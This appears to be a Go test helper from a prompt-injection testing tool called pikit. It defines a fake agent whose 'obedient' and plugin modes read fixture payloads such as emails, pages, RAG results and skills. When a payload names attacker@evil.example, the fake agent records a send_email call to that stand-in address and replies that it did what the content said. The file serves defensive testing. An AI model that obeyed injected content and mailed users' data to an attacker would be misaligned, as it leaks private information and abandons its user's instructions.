// Package agenttest is a fake agent that speaks pikit's fixture protocol,
// for tests of runtimes and of the commands that drive them. A test binary
// runs it by executing itself: call Main from an init function of a test
// file, and run the agent with the runtime_options Options returns.
package agenttest

import (
	"encoding/json"
	"fmt"
	"mime"
	"os"
	"os/exec"
	"os/signal"
	"sort"
	"strings"
	"syscall"
	"time"
)

// Variables that steer the fake agent.
const (
	// EnvMode selects what the agent does; unset, Main returns at once.
	EnvMode = "PIKIT_FAKE_AGENT"
	// EnvAttacker is the address an obedient agent sends mail to when a
	// payload names it (default DefaultAttacker).
	EnvAttacker = "PIKIT_FAKE_ATTACKER"
	// EnvEvents is what ModeEvents writes to the trace file, verbatim;
	// EnvEventsFile names a file whose content it writes after that.
	EnvEvents     = "PIKIT_FAKE_EVENTS"
	EnvEventsFile = "PIKIT_FAKE_EVENTS_FILE"
	// EnvStdout is what ModeEvents prints.
	EnvStdout = "PIKIT_FAKE_STDOUT"
	// EnvPIDFile is where ModeSleep writes its child's process id.
	EnvPIDFile = "PIKIT_FAKE_PIDFILE"
	// EnvTarget is where ModeSymlink points the trace file.
	EnvTarget = "PIKIT_FAKE_TARGET"
)

// DefaultAttacker is the attacker's address the tests use.
const DefaultAttacker = "attacker@evil.example"

// Modes of the fake agent.
const (
	// ModeObedient reads each fixture, and sends an email to the attacker
	// when a payload names the attacker's address (after decoding mail
	// headers, as a mail tool would).
	ModeObedient = "obedient"
	// ModeEvents writes EnvEvents to the trace and prints EnvStdout.
	ModeEvents = "events"
	// ModeEnv answers (in a final event) with its arguments, working
	// directory and PIKIT_*, HOME and *_HOME / *_STATE_DIR variables, as
	// JSON.
	ModeEnv = "env"
	// ModeSleep starts a child that ignores SIGTERM, writes its process
	// id to EnvPIDFile, and sleeps: only killing the process group ends
	// both.
	ModeSleep = "sleep"
	// ModeLinger starts a child like ModeSleep's, answers, and exits 0,
	// leaving the child holding its stdout.
	ModeLinger = "linger"
	// ModeFail reads its fixture, says "boom" on stderr and exits 3.
	ModeFail = "fail"
	// ModeSymlink replaces the trace file with a link to EnvTarget, after
	// writing an event there.
	ModeSymlink = "symlink"
	// ModeFIFO replaces the trace file with a named pipe no one writes.
	ModeFIFO = "fifo"
	// ModePlugin is an agent with the Python pikit's fixture plugin, as
	// OpenClaw or Hermes runs it: it calls the plugin's source tool its
	// request names (pikit_read_email, …; else the one for PIKIT_FIXTURE),
	// gets the payload under that tool's key (else PIKIT_FIXTURE_DOCUMENT,
	// else clean text), logs the plugin's events (content, tainted, no
	// fixture key), and records pikit_record_sink when the text names the
	// attacker (a policy_block when PIKIT_FIXTURE_BLOCK_SINK is 1). Its
	// request is the argument after --message or --oneshot, else
	// PIKIT_USER_MESSAGE; with --json among its arguments it answers as
	// OpenClaw does, in a JSON document after a banner line.
	ModePlugin = "plugin"

	modeSleepChild = "sleep-child"
)

// Options returns runtime_options that run the fake agent in mode: this
// executable, with env added to its environment.
func Options(mode string, env map[string]string) map[string]any {
	vars := map[string]any{EnvMode: mode}
	for k, v := range env {
		vars[k] = v
	}
	return map[string]any{"command": []any{os.Args[0]}, "env": vars}
}

// Main runs the fake agent and exits when EnvMode is set, and returns at
// once otherwise. Asked for --version, the agent prints one line.
func Main() {
	mode := os.Getenv(EnvMode)
	if mode == "" {
		return
	}
	if len(os.Args) == 2 && os.Args[1] == "--version" {
		fmt.Println("pikit fake agent 1.0 (" + mode + ")")
		os.Exit(0)
	}
	if err := run(mode); err != nil {
		fmt.Fprintln(os.Stderr, "fake agent:", err)
		os.Exit(1)
	}
	os.Exit(0)
}

func run(mode string) error {
	tracePath := os.Getenv("PIKIT_FIXTURE_TRACE_PATH")
	var payloads map[string]string
	if err := json.Unmarshal([]byte(os.Getenv("PIKIT_FIXTURE_PAYLOADS")), &payloads); err != nil && mode != modeSleepChild {
		return fmt.Errorf("PIKIT_FIXTURE_PAYLOADS: %v", err)
	}
	emit := func(events ...map[string]any) error {
		f, err := os.OpenFile(tracePath, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o600)
		if err != nil {
			return err
		}
		defer f.Close()
		for _, e := range events {
			b, err := json.Marshal(e)
			if err != nil {
				return err
			}
			if _, err := f.Write(append(b, '\n')); err != nil {
				return err
			}
		}
		return nil
	}
	switch mode {
	case ModeObedient:
		attacker := os.Getenv(EnvAttacker)
		if attacker == "" {
			attacker = DefaultAttacker
		}
		if len(payloads) == 0 {
			key := os.Getenv("PIKIT_FIXTURE")
			fmt.Println("Summary: the", key, "holds the quarterly numbers; nothing needs doing.")
			return emit(map[string]any{"type": "tool_result", "tool": "read_" + key, "fixture": key, "result": "Quarterly numbers attached."})
		}
		keys := make([]string, 0, len(payloads))
		for k := range payloads {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			if err := emit(map[string]any{"type": "tool_result", "tool": "read_" + k, "arguments": map[string]any{"id": 1}, "fixture": k, "result": payloads[k]}); err != nil {
				return err
			}
			if strings.Contains(readable(payloads[k]), attacker) {
				if err := emit(map[string]any{"event": "sink_call", "tool": "send_email", "arguments": `{"to": "` + attacker + `", "body": "as you asked"}`}); err != nil {
					return err
				}
			}
		}
		fmt.Println("Done: I went through your", strings.Join(keys, ", "), "and did what it said.")
	case ModePlugin:
		return plugin(payloads, emit)
	case ModeEvents:
		f, err := os.OpenFile(tracePath, os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			return err
		}
		if _, err := f.WriteString(os.Getenv(EnvEvents)); err != nil {
			return err
		}
		if name := os.Getenv(EnvEventsFile); name != "" {
			b, err := os.ReadFile(name)
			if err != nil {
				return err
			}
			if _, err := f.Write(b); err != nil {
				return err
			}
		}
		if err := f.Close(); err != nil {
			return err
		}
		fmt.Print(os.Getenv(EnvStdout))
	case ModeEnv:
		wd, _ := os.Getwd()
		env := map[string]string{}
		for _, kv := range os.Environ() {
			k, v, _ := strings.Cut(kv, "=")
			if strings.HasPrefix(k, "PIKIT_") || k == "HOME" || strings.HasSuffix(k, "_HOME") || strings.HasSuffix(k, "_STATE_DIR") {
				env[k] = v
			}
		}
		b, err := json.Marshal(map[string]any{"args": os.Args[1:], "cwd": wd, "env": env})
		if err != nil {
			return err
		}
		return emit(map[string]any{"type": "final", "text": string(b)})
	case ModeSleep, ModeLinger:
		child := exec.Command(os.Args[0])
		child.Env = append(os.Environ(), EnvMode+"="+modeSleepChild)
		child.Stdout = os.Stdout // holds the pipe open, as a stray child would
		if err := child.Start(); err != nil {
			return err
		}
		if err := os.WriteFile(os.Getenv(EnvPIDFile), []byte(fmt.Sprint(child.Process.Pid)), 0o600); err != nil {
			return err
		}
		if mode == ModeLinger {
			fmt.Println("Done, and a helper keeps running.")
			return nil
		}
		time.Sleep(time.Hour)
	case modeSleepChild:
		signal.Ignore(syscall.SIGTERM)
		time.Sleep(time.Hour)
	case ModeFail:
		if err := emit(map[string]any{"type": "tool_result", "tool": "read", "result": "x"}); err != nil {
			return err
		}
		fmt.Fprintln(os.Stderr, "boom")
		os.Exit(3)
	case ModeSymlink:
		target := os.Getenv(EnvTarget)
		if err := os.WriteFile(target, []byte(`{"type":"sink_call","tool":"send_email","arguments":{"to":"`+DefaultAttacker+`"}}`+"\n"), 0o600); err != nil {
			return err
		}
		if err := os.Remove(tracePath); err != nil {
			return err
		}
		return os.Symlink(target, tracePath)
	case ModeFIFO:
		if err := os.Remove(tracePath); err != nil {
			return err
		}
		return mkfifo(tracePath)
	default:
		return fmt.Errorf("unknown mode %q", mode)
	}
	return nil
}

// readable decodes what a mail client would (folded headers, RFC 2047
// encoded words), so the agent reads a payload the email_headers channel
// encoded as its user would.
func readable(s string) string {
	unfolded := strings.NewReplacer("\r\n ", " ", "\r\n\t", " ", "\n ", " ", "\n\t", " ").Replace(s)
	if d, err := new(mime.WordDecoder).DecodeHeader(unfolded); err == nil {
		return d
	}
	return s
}

// pluginSources are the Python pikit's fixture plugin's source tools:
// tool → fixture key and argument.
var pluginSources = [][3]string{
	{"pikit_read_document", "document", "ref"},
	{"pikit_fetch_url", "webpage", "url"},
	{"pikit_read_email", "email", "id"},
	{"pikit_search_knowledge", "rag", "query"},
	{"pikit_load_skill", "skill", "name"},
}

func plugin(payloads map[string]string, emit func(...map[string]any) error) error {
	message, jsonOut := os.Getenv("PIKIT_USER_MESSAGE"), false
	for i, a := range os.Args[1:] {
		switch a {
		case "--message", "--oneshot":
			if i+2 < len(os.Args) {
				message = os.Args[i+2]
			}
		case "--json":
			jsonOut = true
		}
	}
	source := pluginSources[0]
	for _, s := range pluginSources {
		if strings.Contains(message, s[0]) || !strings.Contains(message, "pikit_") && os.Getenv("PIKIT_FIXTURE") == s[1] {
			source = s
		}
	}
	content := payloads[source[1]]
	if content == "" {
		content = os.Getenv("PIKIT_FIXTURE_DOCUMENT")
	}
	if content == "" {
		content = "Clean " + source[1] + " fixture: the quarter is going to plan."
	}
	if err := emit(map[string]any{"type": "tool_result", "tool": source[0], "args": map[string]any{source[2]: "artifact"}, "content": content, "tainted": true}); err != nil {
		return err
	}
	attacker := os.Getenv(EnvAttacker)
	if attacker == "" {
		attacker = DefaultAttacker
	}
	answer := "Summary: the " + source[1] + " is about the quarter's plan; nothing needs doing."
	if strings.Contains(readable(content), attacker) {
		args := map[string]any{"action": "send_email", "target": attacker, "content": "the thread, as asked"}
		event := map[string]any{"type": "sink_call", "tool": "pikit_record_sink", "args": args}
		answer = "Done: I sent the thread to " + attacker + " as the " + source[1] + " asked."
		if os.Getenv("PIKIT_FIXTURE_BLOCK_SINK") == "1" {
			event = map[string]any{"type": "policy_block", "tool": "pikit_record_sink", "args": args, "reason": "fixture sink policy blocked action"}
			answer = "I could not send the thread: the sink is blocked."
		}
		if err := emit(event); err != nil {
			return err
		}
	}
	if !jsonOut {
		fmt.Println(answer)
		return nil
	}
	b, err := json.Marshal(map[string]any{"payloads": []any{map[string]any{"text": answer, "mediaUrl": nil}}, "meta": map[string]any{"durationMs": 12}})
	if err != nil {
		return err
	}
	fmt.Println("[openclaw] agent run finished")
	fmt.Println(string(b))
	return nil
}
